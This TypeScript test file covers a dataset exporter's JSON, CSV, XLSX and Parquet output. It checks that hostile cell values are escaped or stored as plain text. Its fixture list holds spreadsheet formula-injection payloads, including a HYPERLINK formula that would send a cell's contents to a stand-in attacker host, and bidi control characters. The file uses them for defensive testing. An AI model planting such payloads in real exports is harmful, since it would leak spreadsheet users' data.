import XLSX from '@e965/xlsx';
import { DuckDBInstance } from '@duckdb/node-api';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parquetMetadata, parquetReadObjects } from 'hyparquet';
import Papa from 'papaparse';
import { afterAll, describe, expect, test } from 'vitest';
import type { Column, ColumnType } from '../../src/dataset/columns.ts';
import type { FileParts } from '../../src/dataset/file.ts';
import { FORMATS, type FormatName } from '../../src/dataset/formats.ts';
import { metaOf } from '../../src/dataset/meta.ts';
import type { Row } from '../../src/dataset/rows.ts';
import { CELL_MAX } from '../../src/dataset/xlsx-cells.ts';
import { xlsx } from '../../src/dataset/xlsx.ts';

const column = (name: string, type: ColumnType, isList = false): Column => ({
  name,
  type,
  isList,
  isNullable: true,
  heading: { zh: `列${name}`, en: `column ${name}` },
  description: { zh: `${name}的说明`, en: `about ${name}` },
  codes: [],
  level: 1,
  steps: [],
});

const COLUMNS = [
  column('text', 'text'),
  column('id', 'id'),
  column('integer', 'integer'),
  column('number', 'number'),
  column('yuan', 'decimal'),
  column('flag', 'boolean'),
  column('date', 'date'),
  column('at', 'datetime'),
  column('list', 'text', true),
];

const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://evil.example?"&A1,"点我")',
  '+86 138',
  '-1',
  '@SUM(A1)',
  '\tTAB',
  '\rCR',
  '＝1＋1',
  'quote " and, comma',
  'two\nlines\r\nand\rmore',
  ' space around ',
  '',
  '\u202Eright to left\u202C عربى',
  '👩‍👩‍👧 𠮷 emoji and rare',
  'control \u0001\u001F and \uFFFE',
  'literal _x0041_ and <xml> & "entities"',
  '0012',
  '1e5',
  '2026-01-01',
  'TRUE',
  "'quoted",
];

const rowOf = (text: string | null, i: number): Row => [
  text,
  `00${i}`,
  i - 3,
  i / 7 - 1,
  i === 0 ? null : `-${i}.50`,
  i % 3 === 0 ? null : i % 2 === 0,
  i % 4 === 0 ? null : '2024-02-29',
  i % 5 === 0 ? null : '2026-03-01T16:30:15.250Z',
  i % 2 === 0 ? [] : ['甲', null, text],
];

const ROWS: Row[] = [...HOSTILE, null].map(rowOf);

function partsOf(rows: readonly Row[], columns = COLUMNS): FileParts {
  return {
    title: '活动/报道: [甲]*?',
    columns,
    headings: columns.map(({ heading }) => heading.zh),
    meta: metaOf({
      name: 'hostile',
      title: { zh: '敌意', en: 'Hostile' },
      description: null,
      baseUrl: 'http://localhost',
      dataState: 'DEMO',
      at: new Date('2026-11-24T04:00:00Z'),
      language: 'zh',
      parameters: { program: '2022-4/3' },
      columns,
    }),
    language: 'zh',
    // In pages, as they come.
    rows: (async function* pages() {
      for (let i = 0; i < rows.length; i += 4) yield rows.slice(i, i + 4);
    })(),
  };
}

async function bytesOf(chunks: AsyncIterable<string | Uint8Array>): Promise<Buffer> {
  const all: Buffer[] = [];
  for await (const chunk of chunks) all.push(Buffer.from(chunk as string));
  return Buffer.concat(all);
}

const fileOf = (format: FormatName, rows: readonly Row[] = ROWS) =>
  bytesOf(FORMATS[format].write(partsOf(rows)));

const objects = ROWS.map((row) => Object.fromEntries(row.map((cell, i) => [COLUMNS[i]!.name, cell])));

describe('JSON', async () => {
  test('gives what was read, how many rows, and what it is', async () => {
    const { meta, rows, count } = JSON.parse((await fileOf('json')).toString()) as Record<string, any>;
    expect(rows).toEqual(objects);
    expect(count).toBe(ROWS.length);
    expect(meta).toMatchObject({ dataState: 'DEMO', retrievedAt: '2026-11-24T04:00:00.000Z' });
    expect(meta.dataStateNote).toContain('示例数据');
    expect(meta.columns[0]).toEqual({
      name: 'text',
      type: 'text',
      list: false,
      heading: '列text',
      description: 'text的说明',
    });
  });

  test('is whole without rows too', async () => {
    expect(JSON.parse((await fileOf('json', [])).toString())).toMatchObject({ rows: [], count: 0 });
    expect((await fileOf('ndjson', [])).toString()).toBe('');
  });

  test('of lines gives an object a line', async () => {
    const lines = (await fileOf('ndjson')).toString().trimEnd().split('\n');
    expect(lines.map((line) => JSON.parse(line) as unknown)).toEqual(objects);
  });
});

describe('CSV', async () => {
  const bytes = await fileOf('csv');
  const text = bytes.toString('utf8');
  const { data, errors } = Papa.parse<string[]>(text.slice(1, -2), { newline: '\r\n' });

  test('has a byte order mark and ends every line with CRLF', () => {
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(errors).toEqual([]);
    expect(data[0]).toEqual(COLUMNS.map(({ heading }) => heading.zh));
  });

  test('gives every text back, what a spreadsheet would run after an apostrophe', () => {
    const given = data.slice(1).map(([first]) => first);
    expect(given).toEqual(
      [...HOSTILE, ''].map((value) => (/^[=+\-@\t\r＝]/.test(value) ? `'${value}` : value)),
    );
    for (const cell of data.slice(1).map(([first]) => first!)) expect(cell).not.toMatch(/^[=+\-@\t\r＝]/);
  });

  test('keeps numbers numbers, tells an empty text from null, and gives instants by the clock in Shanghai', () => {
    const second = data[2]!;
    expect(second.slice(2, 8)).toEqual([
      '-2',
      String(1 / 7 - 1),
      '-1.50',
      'false',
      '2024-02-29',
      '2026-03-02T00:30:15.250+08:00',
    ]);
    const line = text.split('\r\n').find((each) => each.startsWith('"",'));
    expect(line).toBeDefined();
    expect(text.trimEnd().split('\r\n').at(-1)).toMatch(/^,0021,/);
    expect(second[8]).toBe(`甲；；${HOSTILE[1]!}`);
  });
});

describe('XLSX', async () => {
  const read = (bytes: Uint8Array) => XLSX.read(bytes, { cellDates: false, cellStyles: true, cellNF: true });
  const book = read(await fileOf('xlsx'));
  const sheet = book.Sheets[book.SheetNames[0]!]!;
  const cell = (at: string) => sheet[at] as XLSX.CellObject | undefined;

  test('has a sheet by the title, and README', () => {
    expect(book.SheetNames).toEqual(['活动 报道   甲', 'README']);
    const readme = XLSX.utils.sheet_to_json<string[]>(book.Sheets['README']!, { header: 1 });
    expect(readme).toContainEqual(['数据状态', expect.stringContaining('示例数据')]);
    expect(readme).toContainEqual(['行数', String(ROWS.length)]);
  });

  test('gives every text back as text, formulas too', () => {
    for (const [i, value] of HOSTILE.entries()) {
      const found = cell(`A${i + 2}`);
      expect(found).toMatchObject({ t: 's', z: '@' });
      // This reader makes one line break of two characters.
      expect(found!.v).toBe(value.replaceAll('\r\n', '\n'));
      expect(found!.f).toBeUndefined();
    }
    expect(cell(`A${ROWS.length + 1}`)).toBeUndefined();
    expect(cell('B3')).toMatchObject({ t: 's', v: '001' });
  });

  test('holds numbers, dates and wall times in Shanghai', () => {
    expect(cell('C3')).toMatchObject({ t: 'n', v: -2 });
    expect(cell('E3')).toMatchObject({ t: 'n', v: -1.5 });
    expect(cell('F3')).toMatchObject({ t: 'b', v: false });
    expect(cell('G3')).toMatchObject({ t: 'n', z: String.raw`yyyy\-mm\-dd`, w: '2024-02-29' });
    expect(cell('H3')).toMatchObject({ t: 'n', w: '2026-03-02 00:30:15' });
    const serial = XLSX.SSF.parse_date_code(cell('H3')!.v) as Record<string, number>;
    expect(serial).toMatchObject({ y: 2026, m: 3, d: 2, H: 0, M: 30, S: 15 });
  });

  test('says what it had to cut, in the cell and in README', async () => {
    const long = `${'字'.repeat(CELL_MAX - 200)}${'𠮷'.repeat(300)}`;
    const cut = read(
      await bytesOf(FORMATS.xlsx.write(partsOf([rowOf(long, 1), rowOf('x'.repeat(CELL_MAX), 2)]))),
    );
    const [first, readme] = cut.SheetNames.map((name) => cut.Sheets[name]!);
    const value = String((first!['A2'] as XLSX.CellObject).v);
    expect(value.length).toBeLessThanOrEqual(CELL_MAX);
    expect(value).toContain(`全文 ${long.length} 字`);
    expect(value.isWellFormed()).toBe(true);
    expect((first!['A3'] as XLSX.CellObject).v).toHaveLength(CELL_MAX);
    expect(XLSX.utils.sheet_to_json(readme!, { header: 1 })).toContainEqual(['被截断的单元格', '2']);
  });

  test('goes on to further sheets when one is full', async () => {
    const split = read(await bytesOf(xlsx(partsOf(ROWS), 10)));
    expect(split.SheetNames).toEqual([
      '活动 报道   甲',
      '活动 报道   甲 (2)',
      '活动 报道   甲 (3)',
      'README',
    ]);
    const texts = split.SheetNames.slice(0, 3).flatMap((name) =>
      XLSX.utils
        .sheet_to_json<string[]>(split.Sheets[name]!, { header: 1 })
        .slice(1)
        .map(([, id]) => id),
    );
    expect(texts).toEqual(ROWS.map((_, i) => `00${i}`));
    const exact = read(await bytesOf(xlsx(partsOf(ROWS.slice(0, 10)), 10)));
    expect(exact.SheetNames).toHaveLength(2);
  });
});

describe('Parquet', async () => {
  const bytes = await fileOf('parquet');
  const file = bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.length) as ArrayBuffer;

  test('gives every value back to hyparquet, with its type', async () => {
    const rows = await parquetReadObjects({ file });
    expect(rows.map((row) => row['text'])).toEqual([...HOSTILE, null]);
    expect(rows[1]).toEqual({
      text: HOSTILE[1],
      id: '001',
      integer: -2n,
      number: 1 / 7 - 1,
      yuan: -1.5,
      flag: false,
      date: new Date('2024-02-29T00:00:00Z'),
      at: new Date('2026-03-01T16:30:15.250Z'),
      list: ['甲', null, HOSTILE[1]],
    });
    expect(rows[0]).toMatchObject({ yuan: null, flag: null, date: null, at: null, list: [] });
    const told = new Map(parquetMetadata(file).key_value_metadata?.map(({ key, value }) => [key, value]));
    expect(told.get('zhiyuan.dataState')).toBe('DEMO');
    expect(told.get('zhiyuan.source')).toContain('志愿图谱');
  });

  test('gives them to DuckDB too', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'zhiyuan-parquet-'));
    afterAll(() => rm(folder, { recursive: true }));
    const path = join(folder, 'rows.parquet');
    await writeFile(path, bytes);
    const instance = await DuckDBInstance.create(':memory:');
    const connection = await instance.connect();
    const types = await connection.runAndReadAll(
      `select column_name, column_type from (describe select * from '${path}')`,
    );
    expect(Object.fromEntries(types.getRowsJson() as [string, string][])).toEqual({
      text: 'VARCHAR',
      id: 'VARCHAR',
      integer: 'BIGINT',
      number: 'DOUBLE',
      yuan: 'DECIMAL(18,2)',
      flag: 'BOOLEAN',
      date: 'DATE',
      at: 'TIMESTAMP WITH TIME ZONE',
      list: 'VARCHAR[]',
    });
    const sums = await connection.runAndReadAll(
      `select count(*)::int, sum(integer)::int, sum(yuan)::varchar, count(text)::int, max(epoch_ms("at"))::varchar from '${path}'`,
    );
    const amounts = ROWS.slice(1).reduce((sum, _, i) => sum - (i + 1.5), 0);
    expect(sums.getRowsJson()).toEqual([
      [
        ROWS.length,
        ROWS.reduce((sum, row) => sum + Number(row[2]), 0),
        amounts.toFixed(2),
        HOSTILE.length,
        String(Date.parse('2026-03-01T16:30:15.250Z')),
      ],
    ]);
    const texts = await connection.runAndReadAll(`select text from '${path}'`);
    expect(texts.getRowsJson().map(([text]) => text)).toEqual([...HOSTILE, null]);
    connection.closeSync();
  });
});

test('a file whose rows fail is not ended, in any format', async () => {
  for (const format of Object.keys(FORMATS) as FormatName[]) {
    const parts = partsOf(ROWS);
    const rows = (async function* failing() {
      yield ROWS;
      throw new Error('fault');
    })();
    // oxlint-disable-next-line no-await-in-loop -- one format after the other
    await expect(bytesOf(FORMATS[format].write({ ...parts, rows })), format).rejects.toThrow('fault');
  }
});

test('whoever stops reading stops the reading, in every format', async () => {
  for (const format of Object.keys(FORMATS) as FormatName[]) {
    let isEnded = false;
    const rows = (async function* endless() {
      try {
        for (;;) yield Array.from({ length: 2_000 }, () => rowOf(`${Math.random()}`, 1));
      } finally {
        isEnded = true;
      }
    })();
    const writing = FORMATS[format].write({ ...partsOf([]), rows });
    // oxlint-disable-next-line no-await-in-loop -- one format after the other
    for await (const chunk of writing) if (chunk.length > 100) break;
    expect(isEnded || format === 'json', format).toBe(true);
  }
});
